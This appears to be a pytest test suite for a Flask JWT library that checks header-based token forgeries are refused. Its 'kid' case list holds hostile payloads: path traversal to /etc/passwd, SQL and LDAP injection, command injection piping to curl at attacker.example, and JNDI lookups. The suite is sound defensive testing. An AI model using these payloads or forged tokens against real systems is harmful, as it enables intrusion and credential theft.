"""What a token says of itself in its header: H01 to H25.

The header is read before anything is known to be true, so it may only choose among our own keys
and be refused. Unless a case says otherwise its signature holds: what is refused is the header.
"""

from __future__ import annotations

import base64
import json
import logging
import re
import socket
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from flask_jam.keys import Key, KeyRing

from ..cases import each_case
from . import forge
from .conftest import Watch
from .forge import (
    DROP,
    Signer,
    claims,
    compact,
    public_jwk,
    raw_json,
    shaped,
    signer,
    unb64,
)
from .victim import INVALID, Victim, check_refusal

Attack = Callable[[Signer], str]
Target = Callable[..., Victim]

EVIL = "https://attacker.example/jwks.json"


# --- keys that the token brings along -------------------------------------------------


def brought(name: str, **header: Any) -> Attack:
    """Signed by the attacker's key, which the header offers as the one to verify with."""

    def attack(_own: Signer) -> str:
        theirs = signer(name, "attacker")
        said = {key: value(theirs) if callable(value) else value for key, value in header.items()}
        return theirs.token(**said)

    return attack


def their_jwk(theirs: Signer) -> dict[str, Any]:
    key = theirs.key if isinstance(theirs.key, bytes) else theirs.public
    return {**public_jwk(key), "alg": theirs.alg, "use": "sig", "kid": "theirs"}


def their_chain(theirs: Signer) -> list[str]:
    return [base64.b64encode(forge.certificate(theirs)).decode()]


def only_reasons(caplog: pytest.LogCaptureFixture) -> bool:
    """Whether the log says a reason and a fingerprint of each refusal, and nothing more."""
    said = [record.getMessage() for record in caplog.records]
    shape = re.compile(r"refused at \w+: \w+ \((?:[0-9a-f]{8}|None)\)")
    return bool(said) and all(shape.fullmatch(line) for line in said)


@each_case(
    ("name", "attack"),
    [
        *[
            pytest.param(name, brought(name, jwk=their_jwk, **kid), id=f"H01-jwk-{label}-{name}")
            for name in ("HS256", "RS256", "ES256", "Ed25519")
            for label, kid in {"and-its-kid": {"kid": "theirs"}, "alone": {}}.items()
        ],
        *[
            pytest.param(name, brought(name, **{member: url}), id=f"H02-{member}-{scheme}-{name}")
            for name in ("RS256", "ES256")
            for member in ("jku", "x5u")
            for scheme, url in {
                "https": EVIL, "http": EVIL.replace("https", "http"), "loopback": "http://127.0.0.1",
                "file": "file:///etc/passwd", "data": "data:application/json,{}",
                "path": "/dev/null", "metadata": "http://169.254.169.254/latest/",
            }.items()
        ],
        *[
            pytest.param(name, brought(name, x5c=their_chain), id=f"H03-x5c-{name}")
            for name in ("RS256", "ES256", "Ed25519")
        ],
        pytest.param("RS256", brought("RS256", x5t="AAAA"), id="H03-x5t"),
        pytest.param("RS256", brought("RS256", **{"x5t#S256": "AAAA"}), id="H03-x5t-s256"),
    ],
)  # fmt: skip
def test_a_key_that_the_token_brings_is_not_read(victim: Target, name: str, attack: Attack) -> None:
    target = victim(name)
    target.accepts(target.signer.token())
    target.refuses(attack(target.signer))
    # Nor under the name of our own key.
    head, _, _ = attack(target.signer).partition(".")
    header = {**json.loads(unb64(head)), "kid": target.signer.kid}
    target.refuses(signer(name, "attacker").seal(header, claims()))


@each_case(
    "header",
    [
        pytest.param({"jwk": {"kty": "oct", "k": "AAAA"}}, id="H01-jwk"),
        pytest.param({"jku": EVIL}, id="H02-jku"),
        pytest.param({"x5u": EVIL}, id="H02-x5u"),
        pytest.param({"x5c": ["AAAA"]}, id="H03-x5c"),
        pytest.param({"x5t": "AAAA"}, id="H03-x5t"),
        pytest.param({"x5t#S256": 1}, id="H03-x5t-s256"),
    ],
)
def test_what_is_offered_beside_our_own_signature_is_ignored(
    victim: Target, header: dict[str, Any]
) -> None:
    target = victim()
    assert target.accepts(target.signer.token(**header)) == claims()


# --- kid: a name to look up, and nothing else -----------------------------------------

KIDS: dict[str, Any] = {
    "H04-kid-parent-folders": "../../../../../../dev/null",
    "H04-kid-dev-null": "/dev/null",
    "H04-kid-no-such-path": "/invalid_path",
    "H04-kid-etc-passwd": "/etc/passwd",
    "H04-kid-proc": "/proc/self/environ",
    "H04-kid-file-url": "file:///dev/null",
    "H04-kid-windows": "..\\..\\..\\windows\\win.ini",
    "H04-kid-relative": "keys/private.pem",
    "H05-kid-sql-union": "x' UNION SELECT '1';--",
    "H05-kid-sql-or": "' OR 1=1 --",
    "H05-kid-sql-double": '" OR ""="',
    "H05-kid-sql-sleep": "1; SELECT pg_sleep(10)",
    "H05-kid-ldap": "*)(uid=*))(|(uid=*",
    "H05-kid-redis": "x\r\nFLUSHALL\r\n",
    "H06-kid-sleep": "/dev/null; sleep 10",
    "H06-kid-pipe-sleep": "|sleep 10",
    "H06-kid-pipe-curl": "| curl https://attacker.example/",
    "H06-kid-backticks": "`sleep 10`",
    "H06-kid-dollar": "$(sleep 10)",
    "H06-kid-template": "{{7*7}}",
    "H06-kid-jndi": "${jndi:ldap://attacker.example/a}",
    "H06-kid-url": "https://attacker.example/key",
    "H07-kid-empty": "",
    "H07-kid-space": " ",
    "H08-kid-null": None,
    "H08-kid-int": 0,
    "H08-kid-one": 1,
    "H08-kid-true": True,
    "H08-kid-float": 1.5,
    "H08-kid-list": [],
    "H08-kid-object": {},
    "H08-kid-nested": [["a"]],
    "H09-kid-crlf": "own\r\nX-Injected: 1",
    "H09-kid-nul": "own\0",
    "H09-kid-escape": "\x1b[2J\x1b[31mowned",
    "H09-kid-confusable": "\u043ewn",
    "H09-kid-right-to-left": "\u202enwo",
    "H09-kid-astral": "\U0001f511",
    "H09-kid-kilobyte": "A" * 1024,
    "H10-kid-unknown": "no-key-of-ours",
}


#: What a verifier that went wrong would read from such a place: nothing, a selected 1, a NUL.
MISREAD = (b"", b"1", b"\0")


@each_case("kid", [pytest.param(kid, id=code) for code, kid in KIDS.items()])
def test_a_kid_that_names_no_key_of_ours_is_refused(
    victim: Target, watch: Watch, caplog: pytest.LogCaptureFixture, kid: Any
) -> None:
    target = victim()
    target.accepts(target.signer.token())
    caplog.set_level(logging.DEBUG)
    del watch.opened[:]
    started = time.monotonic()
    target.refuses(target.signer.token(kid=kid))
    for secret in MISREAD:
        token = Signer("HS256", secret).token(kid=kid)
        check_refusal(target.get("/jwt", f"Bearer {token}"), INVALID)
    assert time.monotonic() - started < 5
    assert watch.opened == []
    assert only_reasons(caplog)


@each_case(
    "change",
    [
        pytest.param(lambda kid: kid.lower(), id="H09-kid-lower-case"),
        pytest.param(lambda kid: kid + " ", id="H09-kid-trailing-space"),
        pytest.param(lambda kid: " " + kid, id="H09-kid-leading-space"),
        pytest.param(lambda kid: kid + "\0", id="H09-kid-trailing-nul"),
        pytest.param(lambda kid: kid + "=", id="H09-kid-padded"),
        pytest.param(lambda kid: kid[:-1], id="H09-kid-prefix"),
        pytest.param(lambda kid: [kid], id="H08-kid-in-a-list"),
        pytest.param(lambda kid: {kid: kid}, id="H08-kid-in-an-object"),
    ],
)
def test_a_kid_is_compared_exactly(victim: Target, change: Callable[[str], Any]) -> None:
    target = victim()
    kid = change(target.signer.kid)
    assert kid != target.signer.kid
    target.refuses(target.signer.token(kid=kid))


@each_case("size", [2_100, 8_000, 100_000, 1_000_000])
def test_H09_a_long_kid_is_refused_before_it_is_looked_up(
    victim: Target, caplog: pytest.LogCaptureFixture, size: int
) -> None:
    target = victim()
    caplog.set_level(logging.DEBUG)
    target.refuses(target.signer.token(kid="A" * size), reason="too_large")
    assert only_reasons(caplog)


def test_H07_with_several_keys_and_no_kid_none_is_tried(victim: Target) -> None:
    former = signer("HS256", "former")
    target = victim(secret_key_fallbacks=(former.key,))
    target.accepts(target.signer.token())
    target.refuses(target.signer.nameless.token())
    target.refuses(former.token())
    target.refuses(former.token(kid=""))


# The catalogue would have this behind a setting; the contract takes it where there is one key.
@each_case("name", ["HS256", "RS256", "ES256", "Ed25519"])
def test_H07_with_one_key_a_token_without_kid_is_fine(victim: Target, name: str) -> None:
    target = victim(name)
    target.accepts(target.signer.nameless.token())
    target.refuses(signer(name, "stranger").token())


def test_H10_a_flood_of_random_kids_costs_nothing_but_refusals(victim: Target) -> None:
    # That it causes one fetch of a JWK Set at most waits for the URLs of sets.
    target = victim("RS256")
    before = target.jam.verifier.cache_info()
    for number in range(300):
        token = target.signer.token(kid=f"random-{number}")
        assert target.get("/jwt", f"Bearer {token}").status_code == 401
    assert target.jam.verifier.cache_info().currsize == before.currsize
    target.accepts(target.signer.token())


# --- extensions that nobody here understands ------------------------------------------


@each_case(
    "header",
    [
        pytest.param({"crit": ["exp"], "exp": 1}, id="H11-crit-exp"),
        pytest.param({"crit": ["x"], "x": 1}, id="H11-crit-unknown"),
        pytest.param({"crit": ["x"]}, id="H11-crit-names-what-is-not-there"),
        pytest.param({"crit": ["http://example.com/UNDEFINED"],
                      "http://example.com/UNDEFINED": True}, id="H11-crit-of-the-rfc"),
        pytest.param({"crit": ["policy", "b64"], "policy": "x", "b64": True}, id="H11-crit-two"),
        *[
            pytest.param({"crit": crit}, id=f"H12-crit-{label}")
            for label, crit in {
                "empty": [], "null": None, "false": False, "zero": 0, "text": "exp",
                "object": {"exp": 1}, "of-int": [1], "of-null": [None], "of-list": [["exp"]],
                "of-empty-text": [""], "alg": ["alg"], "typ": ["typ"], "kid": ["kid"],
                "crit": ["crit"],
            }.items()
        ],
        pytest.param({"crit": ["b64", "b64"], "b64": True}, id="H13-crit-twice"),
        pytest.param({"crit": ["b64"], "b64": True}, id="H13-b64-true"),
        pytest.param({"crit": ["b64"]}, id="H13-b64-not-there"),
        pytest.param({"crit": ["B64"], "B64": True}, id="H13-b64-upper-case"),
        *[
            pytest.param({"b64": value}, id=f"H14-b64-{label}")
            for label, value in {
                "text-false": "false", "zero": 0, "null": None, "true": True, "false": False,
                "empty": "", "list": [],
            }.items()
        ],
        *[
            pytest.param({member: value}, id=f"H15-{member}")
            for member, value in {
                "zip": "DEF", "enc": "A256GCM", "epk": {"kty": "EC"}, "p2c": 10**9, "p2s": "AAAA",
            }.items()
        ],
        *[
            pytest.param({member: value}, id=f"H15-{member}-is-{value}")
            for member in ("zip", "enc", "p2c")
            for value in (None, 0, False)
        ],
        pytest.param({"apu": "AAAA", "apv": "AAAA", "epk": {}, "enc": "A128GCM", "alg": "ECDH-ES"},
                     id="H15-ecdh"),
        pytest.param({"iv": "AAAA", "tag": "AAAA", "enc": "A128GCM"}, id="H15-key-wrapping"),
    ],
)  # fmt: skip
def test_a_header_parameter_that_changes_the_meaning_is_refused(
    victim: Target, header: dict[str, Any]
) -> None:
    target = victim()
    target.accepts(target.signer.token())
    target.refuses(target.signer.token(**header))


# --- typ ------------------------------------------------------------------------------

OTHER_KINDS = ("refresh", "refresh+jwt", "rt+jwt", "logout+jwt", "dpop+jwt", "secevent+jwt",
               "id+jwt", "JWE", "JOSE", "JOSE+JSON", "application/jose", "statement+jwt",
               "token-introspection+jwt", "oauth-authz-req+jwt", "client-authentication+jwt",
               "vc+sd-jwt", "kb+jwt", "text/jwt", "application/application/jwt", "jwt ", " jwt",
               "jwt\0", "j\u0077t+x", "ath+jwt", "at+jwt;x=1", "at jwt", "", "application/",
               "\uff2a\uff37\uff34")  # fmt: skip


@each_case(
    "kind",
    [
        *[
            pytest.param(kind, id=f"H16-typ-{number}-{kind.strip() or 'blank'}")
            for number, kind in enumerate(OTHER_KINDS)
        ],
        *[
            pytest.param(kind, id=f"H18-typ-{label}")
            for label, kind in {
                "int": 1, "zero": 0, "null": None, "list": ["JWT"], "object": {"typ": "JWT"},
                "true": True, "false": False, "float": 1.5,
            }.items()
        ],
        # The contract has no opt-in for tokens that do not say what they are.
        pytest.param(DROP, id="H19-typ-absent"),
    ],
)  # fmt: skip
def test_a_token_of_another_kind_is_refused(victim: Target, kind: Any) -> None:
    target = victim()
    target.accepts(target.signer.token())
    target.refuses(target.signer.token(typ=kind), reason="wrong_type")


def test_H16_an_id_token_says_JWT_and_is_told_by_its_claims(victim: Target) -> None:
    # OpenID Connect gives ID tokens no kind of their own; their audience is the client.
    said = claims(aud="client-of-the-app", nonce="a-nonce", at_hash="AAAA")
    for settings in ({}, {"audience": "https://api.example"}):
        target = victim(**settings)
        good = {} if not settings else {"aud": "https://api.example"}
        target.accepts(target.signer.token(claims(**good)))
        target.refuses(target.signer.token(said), reason="wrong_type")


@each_case(
    "kind",
    [
        pytest.param(kind, id=f"H17-{kind}")
        for kind in ("JWT", "jwt", "Jwt", "application/jwt", "APPLICATION/JWT", "at+jwt",
                     "AT+JWT", "At+Jwt", "application/at+jwt", "Application/AT+JWT")
    ],
)  # fmt: skip
def test_the_letter_case_and_the_prefix_of_typ_do_not_matter(victim: Target, kind: str) -> None:
    target = victim()
    assert target.accepts(target.signer.token(typ=kind)) == claims()


# --- what two parsers would read in two ways ------------------------------------------


def written(text: str, encoding: str = "utf-8") -> Attack:
    """A header in these words, ``KID`` replaced by our own, and a signature that holds."""

    def attack(own: Signer) -> str:
        return own.seal(text.replace("KID", str(own.kid)).encode(encoding), claims())

    return attack


PLAIN = '{"alg":"HS256","typ":"JWT","kid":"KID"}'


@each_case(
    "attack",
    [
        pytest.param(written('{"alg":"none","alg":"HS256","typ":"JWT"}'), id="H20-none-then-HS256"),
        pytest.param(written('{"alg":"HS256","typ":"JWT","alg":"none"}'), id="H20-HS256-then-none"),
        pytest.param(written('{"alg":"HS256","alg":"HS256","typ":"JWT"}'), id="H20-alg-twice"),
        pytest.param(written('{"alg":"HS256","typ":"dpop+jwt","typ":"JWT"}'), id="H20-typ-twice"),
        pytest.param(written('{"alg":"HS256","typ":"JWT","kid":"x","kid":"KID"}'),
                     id="H20-kid-twice"),
        pytest.param(written(r'{"\u0061lg":"none","alg":"HS256","typ":"JWT"}'),
                     id="H20-escaped-alg-first"),
        pytest.param(written(r'{"alg":"HS256","typ":"JWT","\u0061lg":"none"}'),
                     id="H20-escaped-alg-last"),
        pytest.param(written('{"alg":"HS256","typ":"JWT","x":{"a":1,"a":2}}'), id="H20-nested"),
        *[
            pytest.param(written(PLAIN, encoding), id=f"H21-{encoding}")
            for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le",
                             "utf-32-be", "utf-8-sig")
        ],
        pytest.param(lambda own: own.seal(b'{"alg":"HS256","typ":"JWT","x":"\xe9"}', claims()),
                     id="H21-latin-1"),
        pytest.param(lambda own: own.seal(b'{"alg":"HS256","typ":"JWT","x":"\xc0\xaf"}', claims()),
                     id="H21-overlong"),
        pytest.param(written('["HS256"]'), id="H22-array"),
        pytest.param(written("[" + PLAIN + "]"), id="H22-array-of-the-header"),
        pytest.param(written('"HS256"'), id="H22-text"),
        pytest.param(written("256"), id="H22-number"),
        pytest.param(written("true"), id="H22-true"),
        pytest.param(written("null"), id="H22-null"),
        pytest.param(written("{}"), id="H22-empty-object"),
        pytest.param(written(" "), id="H22-blank"),
        pytest.param(written(PLAIN + "{}"), id="H22-two-documents"),
        pytest.param(written(PLAIN + "x"), id="H22-garbage-behind"),
        pytest.param(written(PLAIN[:-1]), id="H22-not-closed"),
        pytest.param(written(PLAIN.replace('"', "'")), id="H22-single-quotes"),
        pytest.param(written(PLAIN[:-1] + ",}"), id="H22-trailing-comma"),
        pytest.param(written("//\n" + PLAIN), id="H22-comment"),
        pytest.param(written(PLAIN[:-1] + ',"x":NaN}'), id="H22-nan"),
        pytest.param(written(PLAIN[:-1] + r',"x":"\ud800"}'), id="H22-lone-surrogate"),
        pytest.param(written(PLAIN[:-1] + ',"x":' + "[" * 900 + "]" * 900 + "}"), id="H22-deep"),
        pytest.param(lambda own: own.seal(b"\x80\x04}\x94.", claims()), id="H22-pickle"),
    ],
)  # fmt: skip
def test_a_header_that_is_not_plain_json_is_refused(victim: Target, attack: Attack) -> None:
    target = victim()
    target.accepts(written(PLAIN)(target.signer))
    target.refuses(attack(target.signer))


@pytest.fixture
def checked(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """One entry for each signature that was really checked."""
    seen: list[str] = []
    real = Key.verify

    def verify(key: Key, signing_input: bytes, signature: bytes) -> bool:
        seen.append(key.kid)
        return real(key, signing_input, signature)

    monkeypatch.setattr(Key, "verify", verify)
    return seen


def test_H23_a_header_beyond_2_KiB_is_refused_before_any_cryptography(
    victim: Target, checked: list[str]
) -> None:
    target = victim(fresh=True)
    empty = len(raw_json(target.signer.header(x="")))
    target.accepts(target.signer.token(x="A" * (2048 - empty)))
    assert checked
    del checked[:]
    target.refuses(target.signer.token(x="A" * (2049 - empty)), reason="too_large")
    assert checked == []


def test_H22_what_the_gate_refuses_costs_no_cryptography(
    victim: Target, checked: list[str]
) -> None:
    target = victim(fresh=True)
    own = target.signer
    for token in (own.token(crit=["x"]), own.token(alg="none"), own.token(kid="other"),
                  own.seal(b"[]", claims()), own.token() + "."):  # fmt: skip
        target.refuses(token)
    assert checked == []


# --- claims in the header -------------------------------------------------------------


def test_H24_claims_replicated_in_the_header_count_for_nothing(victim: Target) -> None:
    target = victim(issuer="https://a.example", audience="api")
    good = claims(iss="https://a.example", aud="api")
    lie = {"iss": "https://b.example", "aud": "other", "sub": "mallory", "exp": 1, "jti": "x"}
    assert target.accepts(target.signer.token(good, **lie)) == good
    # Nor do they stand in for what the payload does not say, or says wrongly.
    truth = {"iss": "https://a.example", "aud": "api", "sub": "alice", "exp": good["exp"]}
    for wrong, reason in [
        (claims(iss="https://b.example", aud="api"), "wrong_issuer"),
        (claims(iss="https://a.example", aud="other"), "wrong_audience"),
        (claims(aud="api"), "wrong_issuer"),
        (claims(iss="https://a.example"), "wrong_audience"),
        ({**good, "exp": DROP}, "invalid"),
    ]:
        said = {name: value for name, value in wrong.items() if value is not DROP}
        target.refuses(target.signer.token(said, **truth), reason=reason)


# --- keys that do not say their algorithm ---------------------------------------------


@each_case(
    ("name", "others"),
    [
        pytest.param("RS256", ("RS384", "RS512", "PS256", "PS384", "PS512"), id="H25-rsa"),
        pytest.param("ES256", ("ES384", "ES512"), id="H25-ec"),
        pytest.param("ES384", ("ES256", "ES512"), id="H25-ec-384"),
        pytest.param("Ed25519", ("HS256",), id="H25-okp"),
        pytest.param("HS256", ("HS384", "HS512"), id="H25-oct"),
    ],
)
def test_a_key_that_names_no_algorithm_has_one_all_the_same(
    victim: Target, name: str, others: tuple[str, ...]
) -> None:
    own = signer(name)
    public = own.key if isinstance(own.key, bytes) else own.public
    target = victim(fresh=True)
    target.jam.verifier.rekey(KeyRing.from_jwks({"keys": [{**public_jwk(public), "kid": "k"}]}))
    target.accepts(own.token(kid="k"))
    for other in others:
        # Signed as the header says, where the key can, and in name only.
        target.refuses(own.token(kid="k", alg=other))
        if other[:2] in {"RS", "PS"} or name == "HS256":
            target.refuses(Signer(other, own.key, "k").token())
    for secret in [] if name == "HS256" else [shaped(name, "pem"), shaped(name, "jwk")]:
        target.refuses(Signer("HS256", secret, "k").token())
    target.refuses(compact({"alg": "none", "typ": "JWT", "kid": "k"}, claims(), b""))


# --- the watch that stands behind all of this -----------------------------------------


@each_case(
    "act",
    [
        lambda: socket.create_connection(("127.0.0.1", 9), timeout=1),
        lambda: socket.getaddrinfo("attacker.example", 443),
        lambda: subprocess.run(["true"], check=False),
        lambda: Path("/dev/null").read_bytes(),
    ],
)
def test_the_watch_sees_what_an_app_does(watch: Watch, act: Callable[[], Any]) -> None:
    app = Flask("does_it")
    app.testing = True
    app.add_url_rule("/", "index", act)
    with pytest.raises(PermissionError, match="the attacked app did this"):
        app.test_client().get("/")
    assert len(watch.caught) == 1
    watch.caught.clear()
